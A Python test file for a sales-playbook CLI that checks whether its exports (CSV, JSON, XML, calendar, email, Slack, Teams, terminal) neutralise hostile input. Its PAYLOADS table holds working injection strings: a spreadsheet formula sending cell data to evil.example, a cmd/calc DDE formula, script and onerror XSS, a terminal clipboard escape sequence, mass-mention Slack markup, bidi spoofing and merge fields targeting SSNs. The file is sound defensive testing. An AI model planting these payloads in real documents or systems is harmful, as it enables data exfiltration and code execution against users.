"""The encoder payloads through every export and the CLI (issue 21 item 4, second half).

Each hostile payload goes into the names, descriptions and subjects of one playbook; every
export target is written (`playbook export all`), the chat messages and the terminal output
are made (`playbook diff`, `preview`, `validate`), and each output is read by its receiving
side: Python's csv with a spreadsheet's formula rule, the vendors' schemas (Trello, HubSpot,
Adaptive Cards, the Metadata API's XSD through lxml), slack_sdk's Block Kit models, the
icalendar parser, an HTML parser for email bodies, and the bytes a terminal receives. The
assertions are the same for every payload: no formula, no markup, no mention, no link, no
merge field the checks did not see, no invisible or control character where the format
does not want one, and every file parses.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import icalendar
import jsonschema
import pytest
import yaml
from helpers import MINIMAL, ROOT
from lxml import etree

from revenue_playbook.cli import main

VENDOR = ROOT / "tests" / "vendor"

PAYLOADS = {
    "formula": '=HYPERLINK("https://evil.example/?d="&A1,"Details")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t-2+3",
    "xml-controls": "Disco\x00\x01\x0b\x0c\x1f\x7fvery",
    "line-ends": "one\x85two\u2028three\rfour",
    "bidi": "txt.exe\u202egpj.\u2066x\u2069",
    "zero-width": "pay\u200bpal\u200d\ufeff\u2060",
    "slack": "<!channel> <!here> <@U024BE7LH> <https://evil.example|Open>",
    "markdown": "[click](https://evil.example) **bold** ![i](https://evil.example/i.png)",
    "html": '"><script>alert(1)</script><img src=x onerror=alert(2)>',
    "terminal": "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m",
    "merge": "{{account.ssn__c}} {!Contact.SSN} {% if x %}{# c #}",
    "private-use": "\ue000fake sample\ue001",
    "ics": 'a,b;c\\n "d"',
}

# (file, key path) of the text fields that reach the exports and the CLI; each starts with
# the payload (a spreadsheet looks at a cell's first character)
SLOTS = [
    ("campaigns/launch.yaml", ("name",)), ("campaigns/launch.yaml", ("objective",)),
    ("campaigns/launch.yaml", ("steps", "review", "name")),  # nothing waits for it
    ("campaigns/launch.yaml", ("steps", "brief", "description")),
    ("sales.yaml", ("processes", "new_business", "name")),
    ("sales.yaml", ("processes", "new_business", "description")),
    ("sales.yaml", ("processes", "new_business", "stages", "discovery", "name")),
    ("sales.yaml", ("processes", "new_business", "stages", "discovery", "purpose")),
    ("sales.yaml", ("processes", "new_business", "stages", "discovery", "exit_criteria", 0)),
    ("team.yaml", ("lifecycle", "mql", "name")),
    ("team.yaml", ("lifecycle", "mql", "description")),
    ("team.yaml", ("roles", "marketer", "name")),
    ("scorecard.yaml", ("meeting", "name")),
    ("scorecard.yaml", ("meeting", "agenda", 0, "topic")),
    ("templates/recap.yaml", ("name",)),
    ("team.yaml", ("company", "website")),  # the calendars' UIDs hold its host
]
TOOLS = {"hubspot": "contact.firstname", "salesforce": "Contact.FirstName",
         "marketo": "lead.First Name"}
SENDER = {"hubspot": "owner.firstname", "salesforce": "User.FirstName",
          "marketo": "my.Sender"}
DECLARED = {"hubspot": {"{{ contact.firstname }}", "{{ owner.firstname }}"},
            "salesforce": {"{{{Contact.FirstName}}}", "{{{User.FirstName}}}"},
            "marketo": {"{{lead.First Name}}", "{{my.Sender}}"}}
# A tool reads these as the start of a merge field or of template logic.
OPENERS = re.compile(r"\{\{\{?[^}]*\}\}\}?|\{!|\{%|\{#")

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
# what the pages drop (bidi, zero-width, format and control characters, separators)
INVISIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e"
                       "\u2060-\u2064\u2066-\u206f\ufeff]")
TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def hostile_defs(parent: Path, payload: str, old: bool = False) -> Path:
    """The minimal playbook with `payload` in every slot and a template sent from three
    tools (the old version keeps the names, for `diff`)."""
    defs = parent / ("old" if old else "new")
    shutil.copytree(MINIMAL, defs)
    changes: dict[str, list[tuple[tuple[Any, ...], Any]]] = {
        "templates/recap.yaml": [(("tools",), list(TOOLS)),
                                 (("subject",), "Our call today")],
        "team.yaml": [(("merge_fields", "first_name", "tokens"), TOOLS),
                      (("merge_fields", "sender_name", "tokens"), SENDER)]}
    if not old:
        for name, path in SLOTS:
            changes.setdefault(name, []).append((path, f"{payload} Name"))
        # in an email's literal text: a merge payload is refused (test below), so the
        # subject carries the others only
        if "{" not in payload:
            changes["templates/recap.yaml"].append(
                (("subject",), f"Our call {payload} today"))
    for name, edits in changes.items():
        data = yaml.safe_load((defs / name).read_text(encoding="utf-8"))
        for path, value in edits:
            node = data
            for key in path[:-1]:
                node = node[key]
            node[path[-1]] = value
        (defs / name).write_text(yaml.safe_dump(data, allow_unicode=True, width=10_000),
                                 encoding="utf-8")
    return defs


def strings(node: Any) -> list[str]:
    if isinstance(node, dict):
        return [s for k, v in node.items() for s in strings(k) + strings(v)]
    if isinstance(node, list):
        return [s for v in node for s in strings(v)]
    return [node] if isinstance(node, str) else []


class Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "img", "iframe", "a", "object", "svg"):
            self.found.append(f"<{tag}>")
        self.found += [f"<{tag} {name}>" for name, _ in attrs if name.startswith("on")]


def check_csv(path: Path) -> None:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    for cell in (c for row in rows for c in row):
        assert not cell.lstrip(" ").startswith(FORMULA_START), (path.name, cell)
        assert not INVISIBLE.search(cell.replace("\n", "")), (path.name, cell)


def check_json(path: Path, schema: jsonschema.Validator | None = None) -> None:
    document = json.loads(path.read_text(encoding="utf-8"))
    if schema is not None:
        schema.validate(document)
    for text in strings(document):
        assert not INVISIBLE.search(text.replace("\n", "")), (path.name, text)


def check_xml(path: Path, xsd: etree.XMLSchema) -> None:
    doc = etree.parse(str(path))  # a character XML 1.0 forbids fails here
    assert xsd.validate(doc), f"{path.name}: {xsd.error_log}"
    for text in doc.getroot().itertext():
        assert not INVISIBLE.search(text.replace("\n", "").replace("\t", "")), \
            (path.name, text)


def check_ics(path: Path) -> None:
    data = path.read_bytes()
    calendar = icalendar.Calendar.from_ical(data)  # parses, or raises
    assert not INVISIBLE.search(data.decode("utf-8").replace("\r\n", "").replace("\t", "")), \
        path.name
    assert calendar.walk("VEVENT")
    # a TEXT value's line breaks are escaped: every content line is a property or a fold
    for line in data.decode("utf-8").split("\r\n"):
        assert not line or line[0] == " " or re.match(r"[A-Z][A-Z0-9-]*[;:]", line), line


def check_email(path: Path, tool: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert not INVISIBLE.search(text.replace("\n", "").replace("\t", "")), path.name
    fields = set(OPENERS.findall(text))
    assert fields <= DECLARED[tool], (path.name, fields - DECLARED[tool])
    if path.suffix == ".html":
        parser = Markup()
        parser.feed(text)
        assert parser.found == [], (path.name, parser.found)


@pytest.fixture(scope="module")
def xsd() -> etree.XMLSchema:
    return etree.XMLSchema(etree.parse(str(VENDOR / "salesforce" / "metadata-fragment.xsd")))


@pytest.fixture(scope="module")
def trello_schema() -> jsonschema.Validator:
    schema = json.loads((VENDOR / "trello" / "board.schema.json").read_text())
    return jsonschema.Draft202012Validator(schema)


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_every_export_is_safe_in_the_tool_that_opens_it(tmp_path, capsys, payload, xsd,
                                                        trello_schema) -> None:
    defs = hostile_defs(tmp_path, payload)
    out = tmp_path / "out"
    code = main(["export", "all", str(defs), "--out", str(out)])
    err = capsys.readouterr().err
    assert code == 0, err
    assert not TERMINAL_UNSAFE.search(err), err
    files = sorted(p for p in out.rglob("*") if p.is_file()
                   and p.name != ".playbook-manifest.json")  # what the export wrote
    kinds = {p.relative_to(out).parts[0] for p in files}
    assert kinds == {"asana", "trello", "hubspot", "salesforce", "ics", "emails"}
    for path in files:
        target = path.relative_to(out).parts[0]
        if target == "asana":
            check_csv(path)
        elif target == "trello" and path.suffix == ".py":  # the same script for everyone
            text = path.read_text(encoding="utf-8")
            compile(text, path.name, "exec")
            assert " Name" not in text
        elif target == "trello":
            check_json(path, trello_schema)
        elif target == "hubspot":
            check_json(path)
        elif target == "salesforce":
            check_xml(path, xsd)
        elif target == "ics":
            check_ics(path)
        elif path.suffix in (".txt", ".html"):
            check_email(path, path.parent.name)
        else:
            check_json(path)
    # the text is kept, only made safe: the stage is there under its visible name
    stages = (out / "salesforce" / "standardValueSets" /
              "OpportunityStage.standardValueSet").read_text(encoding="utf-8")
    assert re.search(r"<fullName>[^<]* Name</fullName>", stages), stages


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_every_message_and_terminal_line_is_safe(tmp_path, capsys, payload) -> None:
    from slack_sdk.models.blocks import Block

    old, new = hostile_defs(tmp_path, payload, old=True), hostile_defs(tmp_path, payload)
    assert main(["diff", str(old), str(new), "--format", "slack"]) == 0
    slack = json.loads(capsys.readouterr().out)
    for block in Block.parse_all(slack["blocks"]):
        block.validate_json()
    for text in strings(slack):
        assert not re.search(r"<[!@#]|<https?:", text), text
        assert not INVISIBLE.search(text.replace("\n", "")), text
    assert main(["diff", str(old), str(new), "--format", "teams"]) == 0
    card = json.loads(capsys.readouterr().out)["attachments"][0]["content"]
    schema = json.loads((VENDOR / "adaptivecards" / "adaptive-card-1.5.json").read_text())
    jsonschema.validate(card, schema)
    blocks = [b.get("text", "") for b in card["body"] if b["type"] == "TextBlock"]
    assert not [b for b in blocks if " Name" in b], blocks  # user text only in TextRuns
    assert not [t for t in strings(card) if INVISIBLE.search(t)]
    for command in (["diff", str(old), str(new)], ["diff", str(old), str(new), "--format",
                                                   "json"],
                    ["preview", "campaign", "launch", str(new)],
                    ["preview", "template", "recap", str(new)],
                    ["validate", str(new), "--no-color", "--strict"]):
        main(command)
        captured = capsys.readouterr()
        shown = captured.out + captured.err
        assert not TERMINAL_UNSAFE.search(shown), (command[0], shown)
        assert " Name" in shown or command[0] == "validate", command


@pytest.mark.parametrize("where", ["subject", "body"])
def test_a_merge_payload_in_an_email_is_refused_with_its_line(tmp_path, capsys, where) -> None:
    defs = hostile_defs(tmp_path, "x")
    recap = defs / "templates" / "recap.yaml"
    data = yaml.safe_load(recap.read_text(encoding="utf-8"))
    data[where] = data[where] + " {{ '" + PAYLOADS["merge"].replace("'", "") + "' }}"
    recap.write_text(yaml.safe_dump(data, width=10_000), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["export", "emails", str(defs), "--out", str(out)]) == 1
    err = capsys.readouterr().err
    for tool in ("HubSpot", "Salesforce", "Marketo"):
        assert re.search(rf"recap\.yaml:\d+:\d+: .*{where} for {tool}: the text `", err), err
    assert not out.exists()
